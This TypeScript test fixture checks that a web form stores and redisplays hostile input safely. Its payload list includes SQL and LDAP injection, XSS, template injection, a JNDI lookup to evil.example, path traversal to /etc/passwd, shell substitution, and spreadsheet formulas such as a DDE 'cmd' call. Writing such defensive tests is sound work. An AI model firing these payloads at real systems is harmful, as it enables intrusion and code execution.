import { wires } from './invalid-post.ts';
import type { InvalidPost } from './invalid-post.ts';

/** Text that another program could interpret as code, markup or a path. */
const dangerous = [
  `'); DROP TABLE submissions; --`,
  `Robert" OR "1"="1`,
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</textarea></title><svg onload=alert(1)>',
  `' autofocus onfocus='alert(1)`,
  '<!--#exec cmd="ls"-->',
  'javascript:alert(1)',
  '{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% raw %}',
  '{firstName} {form} $1 $& %s%n {reference}',
  '${jndi:ldap://evil.example/a}',
  `*)(uid=*))(|(uid=*`,
  '../../../../etc/passwd',
  '`touch /tmp/x` $(id) ; id | id',
  '&amp; &#x3C; %00 %0d%0a \\u0000 \\x00',
  'null',
  'undefined',
  '{"$ne":null}',
  '__proto__',
  '\u202eevil\u202c',
  'e\u0301 é ﬁ ß İ ſ',
  '\ufffe\uffff\u{10ffff}\u2028\u2029',
  '😀👩‍👩‍👧‍👦🇦🇹',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
];

/** Text that a spreadsheet would calculate. */
export const formulas = ['=HYPERLINK("http://evil.example","x")', '+1+1', '-2+3', '@SUM(A1)', '＝1＋1', ' =1', "=cmd|' /C calc'!A0", '＠x'];

/** Stored as typed, and shown as typed if another field is invalid. */
export const inert: InvalidPost[] = [...dangerous, ...formulas].flatMap((text) => {
  const answers = { [wires.last]: text, [wires.brand]: text, [wires.questions]: `${text}\r\n${text}` };
  return [
    { name: `${JSON.stringify(text)}, stored`, answers, status: 303, stored: 'accepted' },
    {
      name: `${JSON.stringify(text)}, shown again`,
      answers: { ...answers, [wires.first]: '' },
      status: 422,
      message: /Enter your first name/u,
    },
  ];
});
